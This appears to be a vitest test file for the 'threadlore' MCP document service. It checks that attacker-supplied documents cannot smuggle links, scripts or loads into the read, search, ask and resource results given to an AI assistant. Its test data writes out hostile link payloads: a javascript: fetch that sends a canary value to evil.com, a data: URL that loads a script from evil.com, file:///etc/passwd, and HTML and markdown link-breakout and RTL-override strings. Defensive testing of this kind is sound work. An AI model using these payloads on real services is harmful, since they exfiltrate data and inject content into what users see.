/** Documents of an attacker, through everything that `/mcp` gives of them. */
import type { Client } from "@modelcontextprotocol/client";
import { afterThisFile } from "@threadlore/testkit";
import { addressesIn, CITED, dangersIn, OWN_VECTORS, sharedVectors } from "@threadlore/testkit/hostile";
import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import { type ChatSubject, openChat } from "../chat.harness.ts";
import { OWNER_KEY } from "../service.harness.ts";
import { assistantOf, textOf } from "./assistant.harness.ts";

const VECTORS = [...OWN_VECTORS, ...sharedVectors()];
const idOf = (at: number): string => `${at} ${VECTORS[at] ?? ""}`.slice(0, 200);

let service: ChatSubject;
let client: Client;

beforeAll(async () => {
  service = await openChat();
  afterThisFile(() => service.close());
  for (const [at, vector] of VECTORS.entries()) {
    const document = {
      id: idOf(at),
      semantic_identifier: vector,
      source: "web",
      metadata: { [vector.slice(0, 90)]: vector, status: vector },
      primary_owners: [{ display_name: vector }],
      sections: [
        { text: `Rule ${at}: the harbour pays ${at} euros. ${vector}`, link: CITED, heading: vector },
        { text: `# ${vector}\n\n${vector}\n\nThe tariff of berth ${at} is ${at} euros.`, link: CITED },
      ],
    };
    const reply = await service.call("POST", "/service-api/ingestion", { document });
    if (reply.status !== 200) throw new Error(`${vector}: ${reply.text}`);
  }
  await service.service.drain();
});

beforeEach(async () => {
  client = await assistantOf(service, OWNER_KEY);
});

const ADDRESS = /^threadlore:\/\/document\/[\w%.~!*'()-]+$/;

/** What is dangerous in any text of a result. Names of documents are addresses of their own: nothing but that. */
function dangersInResult(value: unknown, field = ""): string[] {
  if (typeof value === "string") {
    if (field === "uri" || field === "document") return ADDRESS.test(value) ? [] : [value];
    return dangersIn(value);
  }
  if (typeof value !== "object" || value === null) return [];
  return Object.entries(value).flatMap(([name, member]) => [
    ...dangersIn(Array.isArray(value) ? "" : name),
    ...dangersInResult(member, Array.isArray(value) ? field : name),
  ]);
}

const call = (name: string, given: Record<string, unknown>) => client.callTool({ name, arguments: given });

/** Of this many documents each; the words themselves are tried one by one where they are made. */
const every = (step: number): number[] => VECTORS.map((_, at) => at).filter((at) => at % step === 0);

describe("an attacker's document links and loads nothing", () => {
  it("read as a document, or as a resource", async () => {
    for (const at of VECTORS.keys()) {
      const result = await call("read", { document: idOf(at) });
      expect(JSON.stringify(result)).toContain(`harbour pays ${at} euros`);
      expect(dangersInResult(result)).toEqual([]);
    }
    for (const at of every(8)) {
      const uri = `threadlore://document/${encodeURIComponent(idOf(at))}`;
      expect(dangersInResult(await client.readResource({ uri }))).toEqual([]);
    }
  });

  it("found by a search", async () => {
    const found = new Set<string>();
    for (const at of every(5)) {
      const result = await call("search", { query: `tariff of berth ${at} harbour euros`, limit: 30 });
      const { passages } = result.structuredContent as { passages: { document: string }[] };
      for (const { document } of passages) found.add(document);
      expect(dangersInResult(result)).toEqual([]);
    }
    expect(found.size).toBeGreaterThan(VECTORS.length / 5);
  });

  it("cited by an answer", async () => {
    let cited = 0;
    for (const at of every(6)) {
      const result = await call("ask", { question: `How many euros is the tariff of berth ${at}?` });
      cited += (result.structuredContent as { sources: unknown[] }).sources.length;
      expect(dangersInResult(result)).toEqual([]);
    }
    expect(cited).toBeGreaterThan(10);
  });

  it("listed among the resources, by its status, and in what goes wrong", async () => {
    const { resources } = await client.listResources();
    expect(resources.length).toBeGreaterThan(VECTORS.length * 0.9);
    expect(dangersInResult(resources.filter(({ uri }) => uri !== "threadlore://sources"))).toEqual([]);
    for (const at of every(10)) {
      expect(dangersInResult(await call("ingest_status", { document: idOf(at) }))).toEqual([]);
      const vector = VECTORS[at] ?? "";
      for (const [name, given] of [
        ["read", { document: vector }],
        ["search", { query: "harbour", document_sets: [vector], sources: [vector] }],
        ["ask", { question: "Who?", document_sets: [vector] }],
      ] as const) {
        expect(dangersInResult(await call(name, given))).toEqual([]);
      }
      const missing = client.readResource({ uri: `threadlore://document/${encodeURIComponent(`x${vector}`)}` });
      expect(
        dangersIn(
          await missing.then(
            () => "",
            (error: unknown) => (error as Error).message,
          ),
        ),
      ).toEqual([]);
    }
  });

  it("kept by an assistant, whose title is repeated", async () => {
    for (const at of every(10)) {
      const title = VECTORS[at] ?? "";
      expect(dangersInResult(await call("ingest", { title, text: title, tags: { team: title } }))).toEqual([]);
    }
  });
});

it.each([
  "javascript:fetch('https://evil.com/x?d=CANARY')",
  "data:text/html,<script src=https://evil.com/x>",
  "file:///etc/passwd",
  "vscode://evil.com/x",
  'https://docs.ok.test/a"><img src=https://evil.com/x>',
  "https://docs.ok.test/a](https://evil.com/x)",
  "https://user:secret@docs.ok.test/a",
  "https://docs.ok.test/a\u202egpj",
  "not an address",
])("a document's own address is given only where it can be opened, whatever its title opens: %s", async (link) => {
  const id = `linked ${link}`;
  for (const title of ["[see", "![see", "<a href='", "`", "[see][1"]) {
    const sections = [{ text: "The lighthouse is green.", link }];
    const document = { id, semantic_identifier: title, source: "web", sections };
    await service.call("POST", "/service-api/ingestion", { document });
    await service.service.drain();
    const read = await call("read", { document: id });
    const results = [
      read,
      await call("search", { query: "lighthouse green", limit: 1 }),
      await call("ask", { question: "Which colour is the lighthouse?" }),
    ];
    for (const result of results) {
      const said = textOf(result);
      const leads = addressesIn(said).filter((address) => !address.startsWith("https://docs.ok.test/"));
      expect(leads).toEqual([]);
      expect(said).not.toMatch(/<img|user:secret|\u202e/);
    }
    const { link: given } = read.structuredContent as { link: string | null };
    expect(given ?? "https://docs.ok.test/").toMatch(/^https:\/\/docs\.ok\.test\/[\w%.:/=]*$/);
  }
  await service.call("DELETE", `/service-api/ingestion/${encodeURIComponent(id)}`);
});
